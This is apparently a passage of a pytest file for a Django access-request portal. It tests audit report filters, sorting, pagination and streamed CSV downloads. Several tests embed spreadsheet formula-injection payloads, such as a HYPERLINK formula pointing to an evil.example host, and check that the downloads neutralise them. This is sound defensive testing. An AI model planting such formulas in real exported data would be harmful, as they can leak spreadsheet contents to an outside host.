    assert client.get(DECISIONS, {"outcome": "maybe", "format": "csv"}).status_code == 400
    assert records(client.get(timeline("ana"), {"until": "soon"}), section=0) == []
    assert not AuditEvent.objects.filter(action="report.downloaded").exists()


@pytest.mark.parametrize("url", PAGES + [timeline("ana")])
@pytest.mark.parametrize(
    "params, zone, message",
    [
        ({"until": "9999-12-31"}, "UTC", "To (inclusive): Enter a date between 0001-01-02 and 9998-12-31."),
        # East of UTC, the first midnight of the calendar is in year 0 in UTC (SQLite's conversion overflows).
        ({"since": "0001-01-01"}, "Asia/Tokyo", "From: Enter a date between 0001-01-02 and 9998-12-31."),
    ],
)
def test_a_date_at_the_end_of_the_calendar_is_a_form_error_and_refuses_the_download(
    client, history, audra, settings, url, params, zone, message
):
    settings.TIME_ZONE = zone
    client.force_login(audra)
    response = client.get(url, params)
    assert response.status_code == 200
    assert message in text(response)
    assert all(records(response, section) == [] for section in range(len(response.context["sections"])))
    download = client.get(url, {**params, "format": "csv"})
    assert download.status_code == 400
    assert message in download.content.decode()
    assert not AuditEvent.objects.filter(action="report.downloaded").exists()


def test_the_last_and_first_dates_the_filters_take_still_filter(client, history, audra):
    client.force_login(audra)
    everything = set(Grant.objects.values_list("pk", flat=True))
    assert {g.pk for g in records(client.get(ACCESS, {"since": "0001-01-02", "until": "9998-12-31"}))} == everything
    assert as_dicts(download(client, DECISIONS, since="9998-12-31", until="9998-12-31")) == []
    page = text(client.get(ACCESS))
    assert 'min="0001-01-02"' in page and 'max="9998-12-31"' in page  # the browser's date picker says so too


@pytest.mark.parametrize("url", PAGES + [timeline("ana")])
def test_a_page_size_out_of_bounds_is_brought_within_them(client, history, audra, url):
    client.force_login(audra)
    fields = [s.table.prefixed_per_page_field for s in client.get(url).context["sections"]]
    for asked, shown in (("-1", 1), ("3", 3), (str(10**30), 500)):
        response = client.get(url, dict.fromkeys(fields, asked))  # -1 was a server error
        assert response.status_code == 200, asked
        assert {s.table.paginator.per_page for s in response.context["sections"]} == {shown}, asked


def test_every_filter_control_has_a_visible_label(client, history, audra):
    client.force_login(audra)
    for url in PAGES + [timeline("ana")]:
        page = text(client.get(url))
        controls = re.findall(r'<(?:input|select)[^>]*\bid="([^"]+)"', page)
        assert controls, url
        for control in controls:
            assert f'<label for="{control}">' in page, (url, control)


# Sorting and pagination ------------------------------------------------------------


def test_report_tables_sort_by_any_column_both_ways(client, history, audra):
    client.force_login(audra)
    users = [g.user.username for g in records(client.get(ACCESS, {"sort": "user"}))]
    assert users == sorted(users) and users[0] == "ana" and users[-1] == "bob"
    users = [g.user.username for g in records(client.get(ACCESS, {"sort": "-user"}))]
    assert users == sorted(users, reverse=True)
    when = [e["when"] for e in records(client.get(timeline("ana"), {"timeline-sort": "-when"}), section=0)]
    assert when == sorted(when, reverse=True)
    outcomes = [r.decision for r in records(client.get(DECISIONS, {"decisions-sort": "decision"}), section=2)]
    assert outcomes == sorted(outcomes)
    page = text(client.get(ACCESS))
    assert 'href="?sort=requested_at"' in page  # a plain link: sorting works without JavaScript


def test_report_pages_are_paginated_and_keep_their_filters(client, ana, otto, profile, audra):
    for _ in range(55):
        grant = approved(ana, profile, otto)
        lifecycle.revoke_grant(grant.pk, actor=ana, reason="released")
    client.force_login(audra)
    response = client.get(ACCESS, {"user": "ana"})
    assert len(records(response)) == 50
    assert "user=ana" in text(response) and "page=2" in text(response)
    assert len(records(client.get(ACCESS, {"user": "ana", "page": 2}))) == 5


# CSV -------------------------------------------------------------------------------

DOWNLOADS = [
    (ACCESS, "access_history", columns.ACCESS_HISTORY),
    (CURRENT, "current_access", columns.CURRENT_ACCESS),
    (DECISIONS, "decisions", columns.DECISIONS),
    (DECISIONS, "decisions_by_profile", columns.DECISIONS_BY_PROFILE),
    (DECISIONS, "decisions_by_approver", columns.DECISIONS_BY_APPROVER),
    (BREAK_GLASS, "break_glass", columns.BREAK_GLASS),
    (BREAK_GLASS, "drift", columns.DRIFT),
    ("/audit/users/ana/", "timeline", columns.TIMELINE),
    ("/audit/users/ana/", "timeline_events", columns.TIMELINE_EVENTS),
]


@pytest.mark.parametrize("url, table, columns", DOWNLOADS)
def test_every_report_downloads_as_a_streamed_csv_with_its_documented_headers(
    client, history, audra, url, table, columns
):
    client.force_login(audra)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, {"format": "csv", "table": table})
        assert isinstance(response, StreamingHttpResponse)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert re.fullmatch(
            rf'attachment; filename="jitportal-{table.replace("_", "-")}-\d{{8}}T\d{{6}}Z\.csv"',
            response["Content-Disposition"],
        )
        # Recorded before a single row is read.
        event = AuditEvent.objects.get(action="report.downloaded")
        assert event.details["report"] == table and event.actor == audra
        lines = iter(response.streaming_content)
        before = len(queries)
        header = next(lines)
        assert len(queries) == before  # the header goes out before the rows are read
    assert header.decode().rstrip("\r\n").split(",") == [c.header for c in columns]
    assert len({c.header for c in columns}) == len(columns)
    rows = list(csv.reader(io.StringIO(b"".join(lines).decode())))
    assert all(len(r) == len(columns) for r in rows)


@pytest.mark.parametrize("debug", [False, True], ids=["debug-off", "debug-on"])
@pytest.mark.parametrize("url, table, columns", DOWNLOADS)
def test_every_download_holds_the_rows_its_page_counts_with_debug_on_and_off(
    client, history, audra, settings, url, table, columns, debug
):
    # Regression: on SQLite with DEBUG (make run's demo) the debug cursor formats the finished SQL with `%` again,
    # and a `%Y` in a strftime template failed the stream after its header: a 200 with the header line only.
    settings.DEBUG = debug
    client.force_login(audra)
    page = client.get(url)
    section = next(s for s in page.context["sections"] if s.name == table)
    rows = download(client, url, table=table)
    assert rows[0] == [c.header for c in columns]
    assert len(rows) - 1 == section.table.paginator.count


def test_downloads_read_rows_through_a_chunked_iterator_or_a_copy(client, history, audra, monkeypatch):
    seen = []
    iterator = QuerySet.iterator

    def spy(self, chunk_size=None):
        seen.append(chunk_size)
        return iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    client.force_login(audra)
    download(client, ACCESS)
    if connection.vendor == "postgresql":
        assert seen == []  # one COPY, streamed row by row
        download(client, timeline("ana"), table="timeline_events")  # JSON details: cells made in Python
    assert seen == [2000]


def _both_paths(rows, columns):
    """Return the CSV bytes of `rows` as the csv module writes them (cells as before COPY) and as COPY writes them."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    values, converters = downloads._csv_values(rows, columns)
    written = "".join(downloads._written_chunks(values, converters, writer, buffer, rows_per_chunk=2)).encode()
    values, converters = downloads._csv_values(rows, columns, copy=True)
    assert not any(converters)
    return written, b"".join(downloads._copied_chunks(values, rows_per_chunk=2))


@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="COPY is PostgreSQL's; SQLite writes every CSV through the csv module"
)
def test_copy_writes_the_same_bytes_as_the_csv_module(client, history, django_user_model, groups, profile, otto, audra):
    odd = django_user_model.objects.create_user("@mallory", "=cmd@example.com", "mallory-password-123")
    odd.groups.add(groups["engineers"])
    for justification, ticket in [
        ('Line one, with a comma\r\nline two "quoted" and \\. a backslash', ""),
        ('=HYPERLINK("http://evil.example","click")', "+1"),
        ("-2+3 Zürich ✓ and a bare\nLF in the middle", "@SUM(1)"),
        ("A justification that ends with spaces   ", "a,b"),
    ]:
        req = ask(odd, profile, justification=justification, ticket=ticket)
        lifecycle.deny_request(req.pk, actor=otto, comment='="quoted", said otto')
    held(odd, profile, otto, justification='A quote " inside, and one at the end"', ticket="\\.")
    queries = [
        (selectors.access_history_columns(selectors.access_history_base()), columns.ACCESS_HISTORY),
        (selectors.current_access(), columns.CURRENT_ACCESS),
        (selectors.decisions(), columns.DECISIONS),
        (selectors.break_glass_uses(), columns.BREAK_GLASS),
        (selectors.drift_report(), columns.DRIFT),
        (selectors.decisions().filter(pk__in=[]), columns.DECISIONS),  # nothing to read
    ]
    for rows, report_columns in queries:
        written, copied = _both_paths(rows, report_columns)
        assert copied == written
    written, _ = _both_paths(selectors.decisions(), columns.DECISIONS)
    assert (
        written.count(b"\r\n") > 10 and b"'@mallory" in written and b'"\'=""quoted""' in written
    )  # the data has what it should
    # Every start a spreadsheet runs, as the database neutralises
    # it for COPY and for the csv module, is what `cell` gives.
    for value in [*downloads.FORMULA_STARTS, "=1+2", "\tx", "plain", "", "é=x", "'quoted"]:
        text = Value(value, output_field=TextField())
        made = (
            AccessRequest.objects.annotate(v=text)
            .values_list(downloads._formula_safe("v", postgresql=True), downloads._formula_safe("v"))[:1]
            .get()
        )
        assert made == (downloads.cell(value),) * 2, value
    client.force_login(audra)
    body = b"".join(client.get(ACCESS, {"format": "csv"}).streaming_content)
    header = ",".join(c.header for c in columns.ACCESS_HISTORY).encode() + b"\r\n"
    assert (
        body
        == header
        + _both_paths(selectors.access_history_columns(selectors.access_history_base()), columns.ACCESS_HISTORY)[0]
    )


@pytest.mark.parametrize("url, table, columns", DOWNLOADS)
def test_the_readme_documents_every_csv_column(url, table, columns):
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    section = readme.split("## For auditors", 1)[1]
    assert f"`{table}`" in section
    for column in columns:
        assert f"`{column.header}`" in section, column.header


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil")'])
def test_cells_that_a_spreadsheet_would_run_are_neutralised(value):
    assert downloads.cell(value) == "'" + value


@pytest.mark.parametrize(
    "value, expected",
    [
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (7, "7"),
        (datetime.timedelta(minutes=90, microseconds=5), "5400"),
        (
            datetime.datetime(2026, 11, 29, 4, 4, 5, 123456, tzinfo=datetime.timezone(datetime.timedelta(hours=1))),
            "2026-11-29T03:04:05Z",
        ),
        ({"b": 1, "a": "=x"}, '{"a":"=x","b":1}'),
    ],
)
def test_cells_are_plain_text_iso_times_and_whole_seconds(value, expected):
    assert downloads.cell(value) == expected


def test_formula_injection_through_the_portal_is_neutralised_in_downloads(client, ana, otto, profile, audra):
    req = ask(
        ana, profile, justification='=HYPERLINK("http://evil.example/"&A1, "click for details")', ticket="@SUM(1+1)"
    )
    lifecycle.deny_request(req.pk, actor=otto, comment="-2+3 is not a reason")
    client.force_login(audra)
    [row] = as_dicts(download(client, DECISIONS))
    assert row["comment"] == "'-2+3 is not a reason"
    assert row["ticket"] == "'@SUM(1+1)"
    [row] = as_dicts(download(client, timeline("ana")))[:1]
    assert row["detail"].startswith("'=HYPERLINK(")


def test_csv_times_are_utc_whatever_the_portal_time_zone(client, history, audra, settings):
    settings.TIME_ZONE = "America/New_York"
    client.force_login(audra)
    rows = as_dicts(download(client, ACCESS))
    done = history["done"]
    row = next(r for r in rows if r["grant_id"] == str(done.pk))
    assert row["started_at"] == done.starts_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    for r in rows:
        for name in ("requested_at", "decided_at", "started_at", "expires_at", "ended_at"):
            assert r[name] == "" or ISO_UTC.match(r[name]), (name, r[name])


def test_the_download_link_carries_the_filters(client, history, audra):
    client.force_login(audra)
    page = text(client.get(ACCESS, {"user": "bob", "outcome": "active", "sort": "user", "page": "1"}))
    assert 'href="?user=bob&amp;outcome=active&amp;format=csv"' in page
    page = text(client.get(BREAK_GLASS, {"target": "appdb-cluster"}))
    assert 'href="?target=appdb-cluster&amp;format=csv&amp;table=drift"' in page


# Query counts ----------------------------------------------------------------------


def fill(n, *, profile, quick_profile, plain_profile, otto, groups, django_user_model, target):
    """Bring the portal to `n` people who each hold a grant, used
    break-glass, had a request approved and left a drift finding."""
    have = django_user_model.objects.filter(username__startswith="load").count()
    for i in range(have, n):
        user = django_user_model.objects.create_user(f"load{i:03}", f"load{i:03}@example.com")
        user.groups.add(groups["engineers"], groups["oncall"])
        grant = held(user, profile, otto)
        ask(user, quick_profile, minutes=60, justification=EMERGENCY, break_glass=True)
        approved(user, plain_profile, otto)
        # The reconciler's own writer: a real "missing" finding needs a target broken by hand.
        reconcile._finding(target, grant.external_ref, "missing", grant=grant, action="reported")


@pytest.fixture
def load(profile, quick_profile, otto, groups, django_user_model, target):
    plain = AccessProfile.objects.create(
        name="appdb-plain",
        title="appdb plain",
        target=target,
        approver_group=groups["db-approvers"],
        scope={"roles": ["app_readonly"]},
    )
    return lambda n: fill(
        n,
        profile=profile,
        quick_profile=quick_profile,
        plain_profile=plain,
        otto=otto,
        groups=groups,
        django_user_model=django_user_model,
        target=target,
    )


def shown(response):
    return sum(len(section.table.paginated_rows) for section in response.context["sections"])


@pytest.mark.parametrize(
    "viewer, url",
    [
        ("audra", ACCESS),
        ("audra", CURRENT),
        ("audra", DECISIONS),
        ("otto", DECISIONS),
        ("audra", BREAK_GLASS),
        ("audra", "/audit/users/otto/"),
        ("otto", "/audit/users/otto/"),
    ],
)
def test_queries_per_page_do_not_grow_with_the_rows(client, load, audra, otto, viewer, url, django_assert_num_queries):
    client.force_login({"audra": audra, "otto": otto}[viewer])
    load(5)
    client.get(url)  # warm what is cached once per process (content types), not per row
    with CaptureQueriesContext(connection) as few:
        response = client.get(url)
    assert response.status_code == 200
    rows_few = shown(response)
    load(50)
    with django_assert_num_queries(len(few)):
        response = client.get(url)
    assert shown(response) > rows_few


# A download that fails midway ------------------------------------------------


@pytest.mark.postgres_only("holds a PostgreSQL table lock and ends the portal's database session mid-stream")
def test_a_download_that_fails_after_its_first_byte_is_aborted_and_logged_with_the_request_id(
    transactional_db, audra, settings, portal_database_url, tmp_path
):
    # The portal under gunicorn (as `make run` and production serve it); the fault is real: the portal's database
    # session ends while the stream waits for its rows. The client must see a broken transfer, not a clean end.

    web = Client()
    web.force_login(audra)
    url = portal_database_url
    port = free_port()
    log = (tmp_path / "web.log").open("w+")
    env = {
        **os.environ,
        "DATABASE_URL": url,
        "JITPORTAL_DEMO": "true",
        "SECRET_KEY": settings.SECRET_KEY,
        "LOG_FORMAT": "json",
        "DEBUG": "0",
    }
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "gunicorn",
            "jitportal.wsgi:application",
            "--bind",
            f"127.0.0.1:{port}",
            "--workers",
            "1",
            "--timeout",
            "60",
            "--no-control-socket",
        ],
        env=env,
        cwd=Path(__file__).resolve().parents[2],
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    try:
        for _ in range(300):  # up to 30 s for gunicorn to import the portal
            with socket.socket() as probe:
                if probe.connect_ex(("127.0.0.1", port)) == 0:
                    break
            assert server.poll() is None, log.seek(0) or log.read()
            time.sleep(0.1)
        with psycopg.connect(url, autocommit=True) as admin, psycopg.connect(url) as locker:
            # The rows' table is locked before the request: the view answers, the header row goes out, then the
            # stream's query waits for the lock, and that waiting session is ended.
            locker.execute("LOCK TABLE grants_grant IN ACCESS EXCLUSIVE MODE")
            http = HTTPConnection("127.0.0.1", port, timeout=30)
            http.request(
                "GET",
                ACCESS + "?format=csv",
                headers={"Cookie": f"sessionid={web.cookies['sessionid'].value}", "X-Request-ID": "abort-test-42"},
            )
            response = http.getresponse()
            assert response.status == 200 and response.getheader("X-Request-ID") == "abort-test-42"
            assert response.getheader("Transfer-Encoding") == "chunked"
            assert response.readline().decode().startswith("grant_id,request_id,")
            for _ in range(300):
                waiting = admin.execute(
                    "SELECT pid FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock'"
                ).fetchall()
                if waiting:
                    break
                time.sleep(0.1)
            assert len(waiting) == 1
            admin.execute("SELECT pg_terminate_backend(%s)", waiting[0])
            locker.rollback()
            with pytest.raises(IncompleteRead):
                response.read()
            http.close()
    finally:
        server.terminate()
        server.wait(timeout=30)
    log.seek(0)
    lines = [json.loads(line) for line in log if line.startswith("{")]
    failed = [entry for entry in lines if "CSV download access_history failed" in entry["message"]]
    assert len(failed) == 1, lines
    assert failed[0]["request_id"] == "abort-test-42" and "abort-test-42" in failed[0]["message"]
    assert "terminating connection" in failed[0]["exception"]
